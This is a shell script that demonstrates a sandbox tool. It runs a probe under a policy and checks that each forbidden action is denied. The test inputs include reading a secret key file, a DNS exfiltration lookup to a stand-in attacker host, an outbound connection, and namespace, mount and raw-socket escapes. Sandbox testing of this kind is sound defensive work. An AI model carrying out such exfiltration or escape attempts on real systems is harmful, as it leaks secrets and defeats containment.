#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Shows a sandbox: each step says what is tried, what must happen and what did.
# Ends with status 0 only if all of it was as it must be.
set -eu

[ "$(id -u)" = 0 ] || { echo "demo: needs root (sandboxes are made with namespaces and nftables)" >&2; exit 1; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT INT TERM
mkdir -p "$work/root/bin" "$work/root/etc" "$work/root/tmp" "$work/root/proc" "$work/root/dev" "$work/root/sys" "$work/root/secret"
CGO_ENABLED=0 go build -o "$work/root/bin/probe" ./integration/probe
echo 'sandbox' >"$work/root/etc/motd"
echo 'the key' >"$work/root/secret/key"
cat >"$work/policy.yaml" <<'POLICY'
version: 1
filesystem_policy:
  read_only: [/bin, /etc, /proc]
  read_write: [/tmp]
network_policies: {}
POLICY

failed=0
try() { # try WHAT WANT RULE ARG...: the probe's line must start with WANT
	what=$1 want=$2 rule=$3
	shift 3
	got=$("$BIN/openshell" run --root "$work/state" --rootfs "$work/root" --policy "$work/policy.yaml" -- /bin/probe "$@" 2>&1) || true
	case "$got" in
	"$want"*) verdict=proved ;;
	*) verdict="FAILED (want $want…)" failed=1 ;;
	esac
	printf '%-44s %s\n    %s\n    by %s\n' "$what" "$verdict" "$got" "$rule"
}
try 'read a file the policy names' 'ok: ' 'policy.yaml:3 read_only: /etc' read /etc/motd
try 'write below a read-only path' 'error: EACCES' 'policy.yaml:3 read_only: /etc' write /etc/motd
try 'write where the policy says so' 'ok: ' 'policy.yaml:4 read_write: /tmp' write /tmp/x
try 'read a file outside the policy' 'error: EACCES' 'policy.yaml:2 filesystem_policy does not name /secret' read /secret/key
try 'look a name up (exfiltration over DNS)' 'error: ' 'policy.yaml:5 network_policies: {}' lookup c2VjcmV0.attacker.test
try 'connect to another host' 'error: ' 'policy.yaml:5 network_policies: {}' dial tcp 192.0.2.1:443
try 'create a user namespace' 'error: EPERM' 'the built-in seccomp filter' unshare
try 'mount' 'error: EPERM' 'the built-in seccomp filter' mount
try 'open a raw socket' 'error: EPERM' 'the built-in seccomp filter' raw
if [ "$failed" = 0 ]; then echo 'demo: everything was as it must be'; else echo 'demo: FAILED' >&2; fi
exit "$failed"
